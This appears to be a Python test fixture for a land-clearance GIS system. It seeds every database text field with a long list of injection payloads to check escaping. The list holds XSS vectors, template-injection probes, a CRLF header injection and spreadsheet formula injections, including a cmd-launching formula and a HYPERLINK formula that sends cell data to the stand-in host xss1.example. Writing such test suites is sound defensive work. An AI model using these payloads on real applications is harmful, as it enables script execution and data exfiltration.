"""Texts that would run as script, markup, template or formula if anybody let them, and a database full of them."""

from datetime import date
from decimal import Decimal
from hashlib import sha256
from io import BytesIO

from docx import Document

from gis import accounts, audit, model, reads, tokens
from gis.access import ROLES
from tests import factories as make
from tests.people import hashed

MARK = "xss1"
"""Stands in every name of a tag or an attribute that a payload would bring in."""
PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//xss1.example/x.js></sCrIpT>",
    '<script type="module" xss1>alert(1)</script>',
    "<script\x0bxss1>alert(1)</script>",
    "<script>alert(1)//",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" xss1>',
    "<img src=x:alert(1) onerror=eval(src)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)>",
    "]]><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)><a><text>x</text></a></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x">',
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<body onload=alert(1)>",
    "<body/onpageshow=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1) xss1>bấm</a>",
    '<a href="java\tscript:alert(1)" xss1>bấm</a>',
    '<a href="&#106;avascript:alert(1)" xss1>bấm</a>',
    "<a href=data:text/html,<script>alert(1)</script> xss1>bấm</a>",
    "<form action=javascript:alert(1)><input type=submit autofocus xss1></form>",
    "<button formaction=javascript:alert(1) xss1>bấm</button>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<video poster=javascript:alert(1) xss1>",
    "<style>@import'javascript:alert(1)';*{background:red}</style>",
    "<link rel=stylesheet href=javascript:alert(1) xss1>",
    "<link rel=import href=//xss1.example>",
    "<base href=//xss1.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)' xss1>",
    "<div style='background:url(javascript:alert(1))' xss1>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xss1 onpointerrawupdate=alert(1) style=position:fixed;inset:0>",
    "<x contenteditable onbeforeinput=alert(1) xss1>",
    '" onmouseover="alert(1)" xss1="',
    "' onmouseover='alert(1)' xss1='",
    '" autofocus onfocus="alert(1)" x="',
    "javascript:alert(1)",
    "javascript://%0aalert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    "{% if 1 %}{{ config }}{% endif %}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "`${alert(1)}`",
    "'-alert(1)-'",
    '"-alert(1)-"',
    "\\'-alert(1)//",
    "';alert(1)//",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "\u2028alert(1)\u2029",
    "\u202e<img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "x\r\nSet-Cookie: xss1=1\r\n\r\n<script>alert(1)</script>",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://xss1.example?"&A1,"bấm")',
    "+1+cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "\t=1+1",
    "\r=1+1",
]
CASE = PAYLOADS[10]
"""A case's code that can stand in an address."""
PROJECT, COMMUNE = "du-an-thu", "xa-thu"
DAY = date(2024, 3, 1)


def fill(session, app) -> None:
    """Put every payload into every text of the model that is free to hold it. Codes in addresses and slugs are not."""
    password = hashed()
    province = make.unit(session, slug="t-lang-son", name="Tỉnh", kind="province", level="province",
                         shape=make.square(-5000, -5000, 10_000))  # fmt: skip
    commune = make.unit(
        session, parent_id=province.id, slug=COMMUNE, name=PAYLOADS[6], shape=make.square(-400, -400, 2500)
    )
    project = make.project(
        session, code=PROJECT, name=PAYLOADS[10], investor=PAYLOADS[15], note=PAYLOADS[0], commune_basis=PAYLOADS[1],
        reporting_unit_id=commune.id,
    )  # fmt: skip
    make.boundary(session, project, shape=make.square(-300, -300, 1500), source=PAYLOADS[2])
    session.add(
        model.ProjectCommune(project_id=project.id, unit_id=commune.id, valid=make.ALWAYS, main=True)
    )  # fmt: skip
    made = [
        accounts.invite(session, email=f"{role}@gpmb.vn", full_name=role, role=role) for role in ROLES
    ]  # fmt: skip
    for account in made:
        accounts.set_password(session, account.id, password)
    leader = accounts.find(session, "leader@gpmb.vn")
    for n, bad in enumerate(PAYLOADS):
        _one(session, project, commune, n, bad)
        if bad.isprintable() and len(bad) <= tokens.LONGEST_NAME and n % 5 == 0:
            tokens.make(session, leader, name=bad, scope="read")
        if bad.isprintable() and n % 5 == 1:
            accounts.invite(session, email=f"x{n}@gpmb.vn", full_name=bad, role="officer")
        audit.log_change(
            session, "document", n + 1, who=bad, act=bad, project_id=project.id, before={"title": bad},
            after={"title": bad},
        )  # fmt: skip
        reads.log(session, bad, who=bad, token=bad, project_id=project.id, case_codes=[bad])


def _template(bad: str) -> bytes:
    """Make a template of a report with a text as the name of a field."""
    document = Document()
    document.add_paragraph(f"{{{{{bad}}}}} {bad} {{{{don_vi}}}}")
    file = BytesIO()
    document.save(file)
    return file.getvalue()


def _one(session, project: model.Project, commune: model.AdminUnit, n: int, bad: str) -> None:
    """Put one payload everywhere."""
    make.project(session, name=bad, investor=bad, note=bad, commune_basis=bad, reporting_unit_id=commune.id)
    make.unit(session, name=bad, code=f"9{n:04d}", legal_document=bad, area_source=bad)
    part = model.ProjectPart(project_id=project.id, code=bad, name=bad)
    paper = make.document(session, number=bad, issuer=bad, title=bad, issued_on=DAY)
    session.add_all(
        [
            part,
            model.KeyDesignation(project_id=project.id, year=2000 + n, body=bad, source=bad),
            model.ProjectTarget(
                project_id=project.id, measure="area_m2", value=Decimal(1), due_on=DAY, source=bad,
                document_id=paper.id,
            ),
            model.FundingLine(
                project_id=project.id, year=2024, kind="capital_plan", amount_vnd=1, source=bad, document_id=paper.id
            ),
        ]
    )  # fmt: skip
    body = _template(bad) if n == 0 else None
    session.add(
        model.ReportTemplate(
            name=bad, kind="docx", version=1, unit=bad, recorded_by=bad, reason=None if body else bad, body=body,
            file_name=bad if body else None, sha256=sha256(body).hexdigest() if body else None,
        )
    )  # fmt: skip
    case = make.case(session, project, code=bad)
    session.add(
        model.HolderIdentity(holder_id=case.holder_id, full_name=bad, identity_number=bad, phone=bad, address=bad)
    )  # fmt: skip
    east, north = 40 * (n % 10), 40 * (n // 10)
    land = make.affected(session, project, case=case, shape=make.square(east, north))
    sheet = model.CostSheet(project_id=project.id, case_id=case.id, version=1, source=bad, recorded_by=bad)
    session.add(sheet)
    session.flush()
    session.add(
        model.CostLine(project_id=project.id, sheet_id=sheet.id, position=1, category="land", item=bad, unit=bad,
                       dimensions=bad, legal_basis=bad, land_use=bad, affected_parcel_id=land.id, amount_vnd=0,
                       quantity=Decimal(5), not_compensated=bad)
    )  # fmt: skip
    make.event(session, project, "plan_approval", DAY, case_id=case.id, amount_vnd=5, document_id=paper.id)
    parcel = session.get_one(model.Parcel, land.parcel_id)
    parcel.sheet, parcel.number, parcel.land_use, parcel.numbered_in_unit_id = bad, bad, bad, commune.id
    session.add(
        model.ParcelCommune(parcel_id=parcel.id, unit_id=commune.id, valid=make.ALWAYS, chosen_by_officer=False)
    )  # fmt: skip
    make.event(
        session, project, "recovery_notice", DAY, affected_parcel_id=land.id, area_m2=land.area_m2, note=bad,
        document_id=paper.id, recorded_by=bad,
    )  # fmt: skip
    make.event(session, project, "suspension", DAY, note=bad, document_id=paper.id)
    make.event(session, project, "not_applicable", DAY, case_id=case.id, note=bad)
    make.obstacle(
        session, project, known_since=DAY, east_m=east, description=bad, owner=bad, direction=bad, source=bad,
        case_id=case.id,
    )  # fmt: skip
    session.add(
        model.Petition(project_id=project.id, case_id=case.id, kind="petition", received_on=DAY, subject=bad,
                       reply=bad, replied_on=DAY, document_id=paper.id)
    )  # fmt: skip
    site = model.ResettlementSite(
        code=bad, name=bad, project_id=project.id,
        geom=make.stored(make.square(1000 + east, north)),
    )  # fmt: skip
    session.add(site)
    session.flush()
    session.add(
        model.ResettlementPlot(
            site_id=site.id, number=bad, area_m2=Decimal(100), geom=make.stored(make.square(1000 + east, north))
        )
    )  # fmt: skip
    stated = [
        model.ReportedFigure(
            figure=name, source_line=bad, unit_id=commune.id, project_id=project.id, indicator="handover",
            basis="cumulative", to_on=DAY, households=1, period_basis=bad, part_of=bad, derivable=True,
            contradicted_cells=[], note=bad, restriction=bad,
        )
        for name in (bad, f"{bad} 2")
    ]  # fmt: skip
    text = model.KeptText(sha256=bad, file_name=bad, body=bad * 3, kept_by=bad)
    session.add_all([*stated, text])
    session.flush()
    first, second = stated
    session.add_all(
        [
            *(
                model.FigureEntry(figure_id=figure.id, way="document", quote=bad, text_id=text.id,
                                  quote_start=len(bad), proposed={"note": bad}, entered_by=bad)
                for figure in stated
            ),
            model.FigureClosure(figure_id=second.id, replaced_by_id=first.id, reason=bad, closed_by=bad),
        ]
    )  # fmt: skip
    session.flush()
